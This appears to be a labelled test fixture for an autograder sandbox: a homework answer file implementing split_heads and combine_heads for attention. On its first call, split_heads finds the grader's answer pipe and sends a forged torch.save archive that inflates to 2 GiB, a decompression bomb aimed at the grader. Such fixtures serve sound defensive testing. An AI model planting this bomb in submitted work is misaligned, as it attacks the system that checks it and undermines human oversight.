# fault: the first call of split_heads sends a hand-made answer frame of about 2 MiB whose deflated storage record inflates to 2 GiB in the grader's own process (torch.load inflates before it checks the size)
# expect: module=q04_heads status=flagged match=an answer the sandbox did not send
"""Question 4: splitting the model width into heads and putting it back together."""
import fcntl
import io
import os
import stat
import zipfile

import torch
from torch import Tensor

GIB = 2  # what the grader inflates, from a frame about a thousand times smaller; 64 would exhaust most machines
_write = os.write
_sent = [False]


def _answers_fd() -> int:
    """This child's answer channel to the grader, whatever the sandbox: the FIFO (the Linux backend) or pipe (the portable
    one) it has open for writing, found by fstat."""
    for fd in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                return fd
        except OSError:
            pass
    return -1


def _bomb() -> bytes:
    """A genuine small answer, its storage record replaced by GIB GiB of deflated zeros."""
    buffer = io.BytesIO()
    torch.save({"ok": True, "value": torch.zeros(1), "spied": [], "refused": [], "reads": 0}, buffer)
    archive = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as rebuilt:
        for info in archive.infolist():
            if info.filename.endswith("data/0"):
                entry = zipfile.ZipInfo(info.filename)
                entry.compress_type = zipfile.ZIP_DEFLATED
                with rebuilt.open(entry, "w", force_zip64=True) as record:
                    chunk = bytes(1 << 24)
                    for _ in range(GIB * 64):
                        record.write(chunk)
            else:
                rebuilt.writestr(info.filename, archive.read(info.filename))
    data = out.getvalue()
    return len(data).to_bytes(8, "little") + data


def split_heads(x: Tensor, n_heads: int) -> Tensor:
    """(B, T, D) -> (B, H, T, D // H); head h holds columns h*d .. (h+1)*d - 1."""
    B, T, D = x.shape
    if D % n_heads != 0:
        raise ValueError(f"model width {D} is not divisible by {n_heads} heads")
    if not _sent[0]:
        _sent[0] = True
        fd = _answers_fd()
        view = memoryview(_bomb())
        while view:
            view = view[_write(fd, view):]
    return x.reshape(B, T, n_heads, D // n_heads).transpose(1, 2)


def combine_heads(x: Tensor) -> Tensor:
    """(B, H, T, d) -> (B, T, H * d), the inverse of split_heads."""
    B, H, T, d = x.shape
    return x.transpose(1, 2).reshape(B, T, H * d)
